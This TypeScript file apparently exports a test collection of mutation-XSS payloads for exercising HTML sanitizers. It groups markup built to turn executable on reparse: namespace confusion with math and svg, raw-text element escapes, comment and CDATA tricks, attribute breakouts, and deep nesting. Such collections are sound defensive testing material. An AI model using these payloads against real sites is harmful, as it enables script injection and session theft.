/* Markup that changes when parsed again. */

const bomb = '<img src=x onerror=alert(1)>';
const inTitle = `"${bomb}"`;
const escaped = '&lt;img src=x onerror=alert(1)&gt;';

const namespaces = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${escaped}">`,
  `<math><mtext><table><mglyph><style><math>${bomb}`,
  `<form><math><mtext></form><form><mglyph><style></math>${bomb}`,
  `<form><math><mtext><form><mglyph><style></math>${bomb}`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${bomb}"></style></h1>`,
  `<math><mi><table><tr><td><mglyph><style><!--</style><p title="--&gt;${escaped}">`,
  `<math><annotation-xml encoding="text/html"><style>${bomb}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html"><p><style><!--</style>${bomb}--></style></p></annotation-xml>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg><style>${bomb}</style></svg></annotation-xml>`,
  `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
  `<math><malignmark><style>${bomb}</style></malignmark></math>`,
  `<svg></p><style><a id="</style>${bomb}">`,
  `<svg><style>${bomb}</style></svg>`,
  `<svg><style><![CDATA[</style>${bomb}]]></style></svg>`,
  `<svg><desc><style>${bomb}</style></desc></svg>`,
  `<svg><title><style>${bomb}</style></title></svg>`,
  `<svg><foreignObject><math><style>${bomb}</style></math></foreignObject></svg>`,
  `<svg><foreignobject><p>${bomb}</p></foreignobject></svg>`,
  `<svg><p><style><g title="</style>${bomb}">`,
  `<svg><![CDATA[>${bomb}]]></svg>`,
  `<svg><textarea><img title="</textarea>${bomb}"></svg>`,
  `<svg><noscript><p title="</noscript>${bomb}"></svg>`,
  `<svg><b><p><style><!--</style>${bomb}--></style></b></svg>`,
  `<b><math><b><style>${bomb}</style></b></math></b>`,
  `<p><svg><p><math><p>${bomb}`,
];

const rawText = [
  ...['noscript', 'noembed', 'noframes', 'xmp', 'iframe', 'textarea', 'title', 'style', 'plaintext'].map(
    (tag) => `<${tag}><p title="</${tag}>${bomb.replaceAll('"', '')}">`,
  ),
  `<select><style></select>${bomb}</style>`,
  `<select><template><style></select>${bomb}</style></template>`,
  `<select><option><iframe><p title="</iframe>${bomb}">`,
  `<template>${bomb}</template>`,
  `<template><template>${bomb}</template></template>`,
  `<template shadowrootmode=open>${bomb}</template>`,
  `<listing>${escaped}</listing>`,
  `<listing>\n\n${bomb}</listing>`,
  `<xmp>${bomb}</xmp>`,
  `<xmp>${escaped}</xmp>`,
  `<textarea>${bomb}</textarea>`,
  `<plaintext>${bomb}`,
  `<style><style/>${bomb}</style>`,
  `<style><!--</style>${bomb}--></style>`,
  `<noscript><style></noscript>${bomb}</style>`,
  `<title></title/>${bomb}`,
];

const comments = [
  `<!-->${bomb}-->`,
  `<!--->${bomb}-->`,
  `<!--!>${bomb}-->`,
  `<!-- --!>${bomb}-->`,
  `<!--<!-- -->${bomb}-->`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `<!--\u0000-->${bomb}`,
  `<![CDATA[>${bomb}]]>`,
  `<![CDATA[<!--]]>${bomb}`,
  `<!>${bomb}`,
  `<!DOCTYPE x [<!ENTITY e "${escaped}">]>&e;`,
  `<?xml version="1.0"?>${bomb}`,
  `<?xml-stylesheet href="javascript:alert(1)"?>${bomb}`,
  `<?import namespace="t" implementation="x">${bomb}`,
  `<%=${bomb}%>`,
  `</ ${bomb}>`,
  `<//>${bomb}`,
  `</p title=">${bomb}">`,
  `</>${bomb}`,
];

const attributes = [
  `<p id=${inTitle}>x</p>`,
  `<p title='</p>${bomb}'>x</p>`,
  `<p title="&quot;>${escaped}">x</p>`,
  `<p title="\`\`onmouseover=alert(1)">x</p>`,
  `<a href="https://chain.example/?&quot;onmouseover=alert(1)//">x</a>`,
  `<a href="https://chain.example/'&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>`,
  `<a href="https://chain.example/&#34;&#62;&#60;svg/onload=alert(1)&#62;">x</a>`,
  `<a href="mailto:x@chain.example?subject=&lt;/a&gt;${escaped}">x</a>`,
  `<a href="https://chain.example/#<img/src=x onerror=alert(1)>">x</a>`,
  `<p ${'a '.repeat(300)}onclick=alert(1)>x</p>`,
  `<p is=x-evil onclick=alert(1)>x</p>`,
];

const moved = [
  `<table><td><table>${bomb}</table></td></table>`,
  `<table><p>${bomb}</table>`,
  `<table><caption><select>${bomb}</select></caption></table>`,
  `<a href="https://chain.example/"><table><td><a href=javascript:alert(1)>x</a></table></a>`,
  `<ul><ol><li><p><ul></p>${bomb}</ol></ul>`,
  `<p><b><i><u><p>${bomb}</b></i></u>`,
  `<body><frameset><frame src=javascript:alert(1)></frameset>`,
  `<html><head><title><b title="</title>${bomb}"></head>`,
  `${'<div>'.repeat(600)}<svg><style>${bomb}`,
  `${'<b>'.repeat(900)}<math><mtext><style>${bomb}`,
  `${'<form><table>'.repeat(120)}<style><!--</style>${bomb}`,
];

export const mutationPayloads: readonly string[] = [
  ...namespaces,
  ...rawText,
  ...comments,
  ...attributes,
  ...moved,
];
